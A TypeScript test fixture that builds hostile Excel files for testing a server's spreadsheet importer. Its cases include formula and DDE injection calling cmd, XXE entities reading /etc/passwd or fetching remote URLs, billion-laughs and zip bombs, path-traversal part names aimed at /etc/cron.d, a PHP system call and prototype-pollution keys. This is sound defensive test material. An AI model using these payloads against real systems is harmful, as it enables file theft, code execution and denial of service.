import { randomBytes } from 'node:crypto';
import {
  buildXlsx,
  sheetData,
  xlsxParts,
  type XlsxContent,
} from '../../../../apps/server/src/spreadsheets/testing/xlsx-builder';
import { buildZip, type ZipPart } from '../../../../apps/server/src/spreadsheets/testing/zip-builder';
import { asXml, freshCode, hostile, type HostileFile, type Outcome } from './hostile-file';

const HEAD = ['code', 'name', 'level'];
const cell = (text: string): string => `<c t="inlineStr"><is><t>${asXml(text)}</t></is></c>`;
const row = (...cells: string[]): string => `<row>${cells.join('')}</row>`;
const head = row(...HEAD.map(cell));
/** A sheet whose second row has the given cell as its name. */
const withName = (name: string): string =>
  `<sheetData>${head}${row(cell(freshCode()), name, cell('xã'))}</sheetData>`;
const good = (): string => sheetData([HEAD, [freshCode(), 'Xã Hải', 'xã']]);

const book = (name: string, outcome: HostileFile['outcome'], content: () => XlsxContent): HostileFile =>
  hostile(name, outcome, () => buildXlsx(content()));
const sheet = (name: string, outcome: HostileFile['outcome'], content: () => string): HostileFile =>
  book(name, outcome, () => ({ sheet: content() }));
const withParts = (name: string, outcome: Outcome, more: () => ZipPart[]): HostileFile =>
  book(name, outcome, () => ({ sheet: good(), more: more() }));
const changed = (name: string, outcome: Outcome, change: (part: ZipPart) => ZipPart | null): HostileFile =>
  hostile(name, outcome, () => buildZip(xlsxParts({ sheet: good() }).flatMap((part) => change(part) ?? [])));

const FORMULAS: HostileFile[] = [
  sheet('formula with a value', 'imported', () =>
    withName('<c t="str"><f>HYPERLINK("http://a","b")</f><v>b</v></c>'),
  ),
  sheet('formula whose value is a formula', 'imported', () =>
    withName('<c t="str"><f>A1</f><v>=1+1</v></c>'),
  ),
  sheet('formula without a value', 'problems', () =>
    withName('<c><f>WEBSERVICE("http://a.example")</f></c>'),
  ),
  sheet('formula that failed', 'imported', () => withName('<c t="e"><f>1/0</f><v>#DIV/0!</v></c>')),
  sheet('formula over an array', 'imported', () =>
    withName('<c t="str"><f t="array" ref="B2:B9">X</f><v>Xã</v></c>'),
  ),
  sheet('shared formula', 'imported', () =>
    withName('<c t="str"><f t="shared" si="0" ref="B2:B9">X</f><v>Xã</v></c>'),
  ),
  sheet('formula that calls a program', 'imported', () =>
    withName(`<c t="str"><f>cmd|'/C calc'!A0</f><v>Xã</v></c>`),
  ),
  ...['=1+1', '+1', '-1', '@x', "=cmd|'/C calc'!A0"].map((text) =>
    sheet(`text ${text}`, 'imported', () => withName(cell(text))),
  ),
  sheet(
    'a link',
    'imported',
    () =>
      `${good()}<hyperlinks><hyperlink ref="B2" r:id="rId9" location="javascript:alert(1)"/></hyperlinks>`,
  ),
];

const NUMBERS: HostileFile[] = [
  ['not a number', '<c><v>NaN</v></c>'],
  ['beyond all numbers', '<c><v>1e999</v></c>'],
  ['a very large number', '<c><v>1e308</v></c>'],
  ['a number in words', '<c><v>một</v></c>'],
  ['text that is not there', '<c t="s"><v>999999</v></c>'],
  ['text before the first', '<c t="s"><v>-1</v></c>'],
  ['a type that is unknown', '<c t="__proto__"><v>x</v></c>'],
  ['a style that is unknown', '<c s="99999"><v>7</v></c>'],
].map(([name = '', xml = '']) => sheet(`${name} in a cell`, ['imported', 'problems'], () => withName(xml)));

const PLACES: HostileFile[] = [
  sheet(
    'rows in disorder',
    'imported',
    () =>
      `<sheetData>${`<row r="9">${cell(freshCode())}${cell('Xã')}${cell('xã')}</row>`}<row r="1">${HEAD.map(cell).join('')}</row></sheetData>`,
  ),
  sheet('a row of number 0', 'imported', () => good().replace('<row>', '<row r="0">')),
  sheet('a row of number -5', 'imported', () => good().replace('<row>', '<row r="-5">')),
  sheet('a row beyond all rows', 'imported', () => good().replace('<row>', '<row r="99999999999999999999">')),
  sheet('the same row twice', 'imported', () => good().replaceAll('<row>', '<row r="3">')),
  sheet('a cell beyond all columns', 'imported', () =>
    good().replace('</row>', '<c r="ZZZZ1"><v>1</v></c><c r="XFD1"><v>1</v></c></row>'),
  ),
  sheet('a cell without a place', 'imported', () => good().replace('</row>', '<c r=""><v>1</v></c></row>')),
  sheet(
    '16,384 columns',
    'imported',
    () =>
      `<sheetData>${row(...HEAD.map(cell), ...Array<string>(16_381).fill('<c><v>1</v></c>'))}${row(cell(freshCode()), cell('Xã'), cell('xã'))}</sheetData>`,
  ),
  sheet('a hundred thousand rows', 'SHEET_TOO_MANY_ROWS', () =>
    sheetData([HEAD, ...Array.from({ length: 100_000 }, (_, index) => [`T${index}`, 'Xã', 'xã'])]),
  ),
  sheet('a million empty rows', 'SHEET_TOO_COMPLEX', () =>
    good().replace('</sheetData>', `${'<row/>'.repeat(1_000_000)}</sheetData>`),
  ),
  sheet(
    'merged over the whole sheet',
    'SHEET_COLUMNS_MISSING',
    () => `${good()}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`,
  ),
  sheet(
    'merged in one row',
    'imported',
    () =>
      `${sheetData([['Danh sách', '', ''], HEAD, [freshCode(), 'Xã Hải', 'xã']])}<mergeCells><mergeCell ref="A1:C1"/></mergeCells>`,
  ),
  sheet('merged backwards', 'imported', () => `${good()}<mergeCells><mergeCell ref="C9:A1"/></mergeCells>`),
  sheet(
    'merged without sense',
    'imported',
    () => `${good()}<mergeCells><mergeCell ref="__proto__"/><mergeCell/><mergeCell ref="A1"/></mergeCells>`,
  ),
  sheet(
    'merged thirty thousand times',
    'SHEET_TOO_COMPLEX',
    () => `${good()}<mergeCells>${'<mergeCell ref="A1:B2"/>'.repeat(30_000)}</mergeCells>`,
  ),
];

const XML: HostileFile[] = [
  ...[
    ['reads a file', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'],
    ['asks another computer', '<!DOCTYPE a [<!ENTITY x SYSTEM "http://a.example/">]>'],
    ['takes a parameter from elsewhere', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://a.example/"> %p;]>'],
    [
      'laughs a billion times',
      `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`).join('')}<!ENTITY x "&l9;">]>`,
    ],
    ['is empty', '<!DOCTYPE a>'],
  ].map(([what, prolog]) =>
    book(`document type that ${what}`, 'SHEET_UNREADABLE', () => ({
      sheet: withName('<c t="inlineStr"><is><t>&x;</t></is></c>'),
      prolog: prolog ?? '',
    })),
  ),
  sheet('an unknown entity', 'SHEET_UNREADABLE', () =>
    withName('<c t="inlineStr"><is><t>&nbsp;</t></is></c>'),
  ),
  sheet('a character that XML cannot hold', ['SHEET_UNREADABLE', 'problems'], () =>
    withName('<c t="inlineStr"><is><t>&#0;</t></is></c>'),
  ),
  sheet('an escaped hole', 'problems', () => withName(cell('Xã_x0000_Hải'))),
  sheet('an escaped override', 'problems', () => withName(cell('Xã_x202E_Hải'))),
  sheet('an escaped half of a letter', 'problems', () => withName(cell('Xã_xD800_Hải'))),
  sheet('text outside of the standard', 'imported', () =>
    withName('<c t="inlineStr"><is><t><![CDATA[Xã <Hải>]]></t></is></c>'),
  ),
  sheet('an instruction', 'imported', () => `<?php system("reboot")?>${good()}`),
  sheet('an element that is not closed', 'SHEET_UNREADABLE', () => good().replace('</sheetData>', '')),
  sheet('an attribute twice', 'SHEET_UNREADABLE', () => good().replace('<row>', '<row r="1" r="2">')),
  sheet(
    'elements within elements, fifty thousand deep',
    'imported',
    () => `${'<x>'.repeat(50_000)}${'</x>'.repeat(50_000)}${good()}`,
  ),
  sheet('elements without end', 'SHEET_TOO_COMPLEX', () =>
    Array.from(
      { length: 700 },
      () => '<x/>'.repeat(5_000) + `<!--${randomBytes(120).toString('hex')}-->`,
    ).join(''),
  ),
  sheet('another prefix', 'imported', () =>
    good()
      .replaceAll(/<(\/?)(row|c|is|t|sheetData)\b/g, '<$1y:$2')
      .replace('<y:sheetData>', '<y:sheetData xmlns:y="a">'),
  ),
];

const BOMBS: HostileFile[] = [
  withParts('zeros', 'SHEET_TOO_COMPLEX', () => [{ name: 'xl/media/a', content: Buffer.alloc(8_000_000) }]),
  withParts('a size that is a lie, too large', 'SHEET_TOO_COMPLEX', () => [
    { name: 'a', content: 'b', claimedSize: 4_200_000_000 },
  ]),
  changed('a size that is a lie, too small', 'SHEET_UNREADABLE', (part) => ({ ...part, claimedSize: 1 })),
  withParts('ten zips within zips', 'imported', () => {
    const nest = (depth: number): Buffer =>
      buildZip([{ name: 'a.zip', content: depth > 0 ? nest(depth - 1) : 'a' }]);
    return [{ name: 'xl/embeddings/a.zip', content: nest(10) }];
  }),
  withParts('two thousand parts', 'SHEET_TOO_COMPLEX', () =>
    Array.from({ length: 2_000 }, (_, index) => ({ name: `a${index}`, content: '' })),
  ),
  book('shared text that is used everywhere', 'SHEET_TOO_COMPLEX', () => ({
    sheet: `<sheetData>${head}${row(...Array<string>(100).fill('<c t="s"><v>0</v></c>')).repeat(40)}</sheetData>`,
    strings: ['dài'.repeat(10_000)],
  })),
  book('a cell of three million letters', 'problems', () => ({
    sheet: withName(cell(randomBytes(1_500_000).toString('hex'))),
  })),
];

const PACKAGING: HostileFile[] = [
  ...['xl/workbook.xml', 'xl/_rels/workbook.xml.rels', 'xl/worksheets/sheet1.xml'].map((missing) =>
    changed(`without ${missing}`, 'SHEET_UNREADABLE', (part) => (part.name === missing ? null : part)),
  ),
  ...['xl/sharedStrings.xml', 'xl/styles.xml', '[Content_Types].xml'].map((missing) =>
    changed(`without ${missing}`, 'imported', (part) => (part.name === missing ? null : part)),
  ),
  ...[
    '../../../etc/passwd',
    'http://a.example/sheet.xml',
    '/etc/passwd',
    '\\\\a.example\\share\\a.xml',
    '__proto__',
  ].map((target) =>
    changed(`sheet that lies at ${target}`, 'SHEET_UNREADABLE', (part) =>
      part.name.endsWith('.rels')
        ? { ...part, content: String(part.content).replace('worksheets/sheet1.xml', target) }
        : part,
    ),
  ),
  changed('sheet on another computer', 'SHEET_UNREADABLE', (part) =>
    part.name.endsWith('.rels')
      ? {
          ...part,
          content: String(part.content).replace(
            'Target="worksheets/sheet1.xml"',
            'TargetMode="External" Target="worksheets/sheet1.xml"',
          ),
        }
      : part,
  ),
  withParts('macros', 'imported', () => [{ name: 'xl/vbaProject.bin', content: randomBytes(2_000) }]),
  withParts('links to other workbooks', 'imported', () => [
    {
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
    },
  ]),
  withParts('an embedded program', 'imported', () => [
    { name: 'xl/embeddings/oleObject1.bin', content: 'MZ' },
  ]),
  withParts('a part whose name climbs', 'SHEET_UNREADABLE', () => [
    { name: '../../../../tmp/evil.txt', content: 'x' },
  ]),
  withParts('a part whose name is a root', 'SHEET_UNREADABLE', () => [
    { name: '/etc/cron.d/evil', content: 'x' },
  ]),
  withParts('a part twice', 'SHEET_UNREADABLE', () => [{ name: 'xl/styles.xml', content: '<a/>' }]),
  withParts('a part named __proto__', 'imported', () => [{ name: '__proto__', content: 'x' }]),
  changed('encrypted parts', 'SHEET_UNREADABLE', (part) => ({ ...part, flags: 1 })),
  book('hidden sheets alone', 'SHEET_UNREADABLE', () => ({
    sheet: good(),
    workbook: '<sheets><sheet name="a" sheetId="1" state="veryHidden" r:id="rId1"/></sheets>',
  })),
  book('no sheets', 'SHEET_UNREADABLE', () => ({ sheet: good(), workbook: '<sheets/>' })),
  book('a sheet named as a formula', 'imported', () => ({
    sheet: good(),
    workbook: '<sheets><sheet name="=1+1" sheetId="1" r:id="rId1"/></sheets>',
  })),
  book('ten thousand styles', 'imported', () => ({
    sheet: good(),
    styles: `<cellXfs>${'<xf numFmtId="14"/>'.repeat(10_000)}</cellXfs>`,
  })),
  book('a format of numbers that is a riddle', 'imported', () => ({
    sheet: good(),
    styles: `<numFmts><numFmt numFmtId="200" formatCode="${'[$-'.repeat(5_000)}"/></numFmts><cellXfs><xf numFmtId="200"/></cellXfs>`,
  })),
];

export const HOSTILE_XLSX: HostileFile[] = [
  ...FORMULAS,
  ...NUMBERS,
  ...PLACES,
  ...XML,
  ...BOMBS,
  ...PACKAGING,
].map((file) => ({ ...file, name: `Excel: ${file.name}` }));
